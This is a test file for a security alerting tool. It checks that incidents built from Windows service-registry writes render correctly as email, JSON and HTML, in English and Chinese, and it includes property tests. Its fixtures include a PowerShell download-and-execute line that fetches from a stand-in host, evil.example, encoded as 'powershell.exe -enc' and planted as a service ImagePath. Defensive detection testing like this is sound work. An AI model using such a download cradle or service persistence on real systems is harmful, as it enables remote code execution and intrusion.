import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Alert, incidentOf } from '../../functions/alert/detection/index.ts';
import { renderIncident, renderIncidentReport } from '../../functions/alert/notification/index.ts';
import { CHARACTER } from '../characters.ts';
import { chatProblems } from '../local-aws/sns/chat.ts';
import { scale, seed } from '../scale.ts';
import { alertOf, OPTIONS, USER_SID, writeEvent } from './fixture.ts';
import { readPage } from './html-reader.ts';
import { MOST_BYTES, publishedBytes } from './published-bytes.ts';
import { validateAlert } from './validate-alert.ts';

const START = Date.UTC(2026, 10, 24, 2, 46, 51);

/** A write of a service's program, so many seconds after the start. */
const service = (name: string, image: string, second = 0, more: object = {}): Alert =>
  alertOf(
    writeEvent(
      {
        hive: 'HKLM',
        key: `SYSTEM\\ControlSet001\\Services\\${name}`,
        value: 'ImagePath',
        type: 'REG_EXPAND_SZ',
        strings: [image],
      },
      { '@timestamp': new Date(START + second * 1000).toISOString(), ...more },
    ),
  );

const render = (
  alerts: readonly Alert[],
  options: Partial<typeof OPTIONS> = {},
  continues: Parameters<typeof renderIncident>[1] = null,
) => renderIncident(incidentOf(alerts, OPTIONS.sha256), continues, { ...OPTIONS, ...options });

const LINE =
  /^ {2}(?:suspicious|unusual|unclear|administration\?|可疑|异常|待研判|疑似运维操作) +(?:(\d+) (?:x|次) )?/;
const MORE = /^ {2}(?:and|另有) (\d+) /;

const also = (email: string): string =>
  /^(?:ALSO WRITTEN|【其他写入)[\s\S]*?(?=\n\n)/m.exec(email)?.[0] ?? '';

/** `IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')` */
const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
const ENCODED = `powershell.exe -enc ${Buffer.from(SCRIPT, 'utf16le').toString('base64')}`;
const SVCHOST = 'C:\\Windows\\System32\\svchost.exe -k netsvcs';
const TWENTY_ONE = [
  ...Array.from({ length: 19 }, (_, at) => service(`svc${at}`, SVCHOST, at + 2)),
  service('Upd2', 'C:\\ProgramData\\a.exe', 1),
  service('Updater', ENCODED),
];
const HUNDRED = Array.from({ length: 100 }, (_, at) =>
  service(`svc${at}`, `C:\\Users\\Public\\a${at}.exe`, at),
);

describe('the message of an incident', () => {
  it('begins with the most suspicious alert, then has a line for each distinct write', () => {
    const { subject, email } = render(TWENTY_ONE);
    expect(subject).toMatch(/^\[high\] 21 service program writes by wmic\.exe on FIN-WS-042, 2 suspicious/);
    expect(email).toMatch(/^Runs +powershell\.exe -enc$/m);
    expect(also(email)).toBe(
      [
        'ALSO WRITTEN (20 more, same initiator, 02:46:51 to 02:47:11 UTC)',
        '  suspicious       Services\\Upd2 ImagePath     C:\\ProgramData\\a.exe',
        '  administration?  19 x Services\\* ImagePath   C:\\Windows\\System32\\svch[+18]',
      ].join('\n'),
    );
    expect(email.replace(/\s+/g, ' ')).toMatch(/ WMI\. One of 21 writes: the others are below\. Runs /);
    expect(email).toMatch(
      /keep each undo line\.\n {2}The commands below are for the write above; those for the other 20 /,
    );
    for (const section of ['FIVE QUESTIONS', 'CHECKLIST OF THE RULE'])
      expect(email.split(section)).toHaveLength(2);
  });

  it('gives one time for writes of one second', () => {
    const { email } = render([
      service('a', 'C:\\Users\\Public\\a.exe'),
      service('b', 'C:\\Users\\Public\\b.exe'),
    ]);
    expect(also(email)).toMatch(/^ALSO WRITTEN \(1 more, same initiator, 02:46:51 UTC\)$/m);
  });

  it('names all alerts to programs, the most suspicious at the top level', () => {
    const message = render(TWENTY_ONE);
    const document = JSON.parse(message.default);
    expect(document).toMatchObject({ kind: 'incident', continues: null, truncated: false });
    expect(document.registry.data.strings).toEqual([ENCODED]);
    expect(document.alertIds.toSorted()).toEqual(TWENTY_ONE.map(({ id }) => id).sort());
    expect([document.id, ...document.alerts.map(({ id }: Alert) => id)]).toEqual(document.alertIds);
    expect(document.alerts[0]).toMatchObject({ kind: 'alert', event: { registry: {} }, evidence: {} });
    expect(validateAlert(message.default)).toEqual([]);
    expect(Object.keys(message.attributes)).toHaveLength(10);
    expect(message.attributes).toMatchObject({
      kind: { value: 'alert' },
      alertId: { value: document.id },
      incidentId: { value: document.incidentId },
      alerts: { type: 'Number', value: '21' },
    });
  });

  it('says which earlier one it continues, in its thread', () => {
    const continues = { id: 'f'.repeat(64), begunMs: START - 14 * 60_000 };
    const single = render([HUNDRED[0]!], {}, continues);
    expect(single.email).toMatch(/^Related +continues incident ffffffffffff, begun 14 min ago/m);
    expect(JSON.parse(single.default)).toMatchObject({
      kind: 'alert',
      continues: { incidentId: continues.id, begun: '2026-11-24T02:32:51.000Z' },
    });
    const threadOf = ({ https }: { https: string }): string => JSON.parse(https).metadata.threadId;
    expect(threadOf(render(TWENTY_ONE))).toBe(threadOf(single));
    const nobody = { Effective_process: {} };
    const [a, b] = [service('a', 'a.exe', 0, nobody), service('b', 'b.exe', 0, nobody)];
    expect(threadOf(render([a]))).not.toBe(threadOf(render([b])));
  });

  it.each(['en', 'zh-CN', 'both'] as const)('of a hundred alerts fits: %s', locale => {
    const message = render(HUNDRED, { locale });
    expect(publishedBytes(message)).toBeLessThanOrEqual(MOST_BYTES);
    expect(message.subject.length).toBeLessThanOrEqual(99);
    expect(message.cut).toEqual(['alerts']);
    const document = JSON.parse(message.default);
    expect(document).toMatchObject({ truncated: true, cut: ['alerts'] });
    expect(document.alerts.map(({ id }: Alert) => id)).toEqual(
      document.alertIds.slice(1, document.alerts.length + 1),
    );
    expect(document.alerts.length).toBeGreaterThan(5);
    expect(chatProblems(message.https)).toEqual([]);
    for (const email of message.email.split(/^-{78}\n\n/m)) {
      expect(email.split('\n\n')[0]!.split('\n').length).toBeLessThanOrEqual(25);
      expect(email.split('\n').length).toBeLessThanOrEqual(300);
      expect(also(email).split('\n')).toHaveLength(100);
    }
  });

  it('has one page with every alert in full', () => {
    const page = readPage(renderIncidentReport(incidentOf(TWENTY_ONE, OPTIONS.sha256), OPTIONS));
    const ids = page.elements.flatMap(({ attributes }) => attributes.get('id') ?? []);
    expect(ids.filter((id, at) => ids.indexOf(id) !== at)).toEqual([]);
    for (const { attributes } of page.elements) {
      const target = /^#(.*)/.exec(attributes.get('href') ?? '')?.[1];
      if (target !== undefined) expect(ids).toContain(target);
    }
    expect(page.elements.filter(({ name }) => name === 'article')).toHaveLength(22);
    for (const { id } of TWENTY_ONE) expect(page.text).toContain(id);
    // The list of them tells them apart.
    expect(page.text).toMatch(/SUSPICIOUS\s*Services\\Upd2\s+ImagePath\s+C:\\ProgramData\\a\.exe/);
  });

  it('keeps the write where a SID would take all of the line', () => {
    const script = writeEvent(
      {
        hive: 'HKEY_USERS',
        key: `${USER_SID}\\Environment`,
        value: 'UserInitMprLogonScript',
        strings: ['C:\\ProgramData\\u.bat'],
      },
      { '@timestamp': new Date(START + 1000).toISOString() },
    );
    expect(also(render([service('Updater', ENCODED), alertOf(script)]).email)).toMatch(
      / Environment UserInitMprLogon\[\+6\] +C:\\ProgramData\\u\.bat$/m,
    );
  });

  it('without an archive names the records of the log', () => {
    expect(also(render(TWENTY_ONE.slice(18), { archiveBucket: undefined }).email)).toContain(
      'Records in the log: 18204, 18204.',
    );
  });

  it('shows the most suspicious write whatever an attacker puts beside it', () => {
    const text = fc.string({ unit: CHARACTER, maxLength: 60 });
    const noise = fc.array(fc.tuple(text, text, fc.integer({ min: -500, max: 500 })), {
      minLength: 1,
      maxLength: 120,
    });
    fc.assert(
      fc.property(noise, fc.constantFrom('en', 'zh-CN', 'both'), (list, locale) => {
        const drawn = list.map(([name, image, second]) => service(`x${name}`, image, second));
        const others = [...new Map(drawn.map(alert => [alert.id, alert])).values()];
        const attack = service('Updater', ENCODED);
        const worst = incidentOf([...others, attack], OPTIONS.sha256).alerts[0];
        const message = render([...others, attack], { locale });
        expect(publishedBytes(message)).toBeLessThanOrEqual(MOST_BYTES);
        expect(message.subject).toMatch(/^[\x20-\x7e]{1,99}$/);
        expect(chatProblems(message.https)).toEqual([]);
        expect(JSON.parse(message.default).alertIds).toContain(attack.id);
        if (worst.id === attack.id) expect(message.email).toMatch(/(Runs|运行) +powershell\.exe -enc$/m);
        for (const email of message.email.split(/^-{78}\n\n/m)) {
          expect(email.split('\n').length).toBeLessThanOrEqual(300);
          // Each line is a write, and all together are all.
          const counts = also(email)
            .split('\n')
            .slice(1)
            .map(line =>
              Number(LINE.exec(line)?.[1] ?? MORE.exec(line)?.[1] ?? (LINE.test(line) ? 1 : Number.NaN)),
            );
          expect(counts.length).toBeLessThanOrEqual(101);
          expect(counts.reduce((sum, count) => sum + count, 0)).toBe(others.length);
        }
      }),
      { seed: seed(), numRuns: scale(2_000) },
    );
  });
});
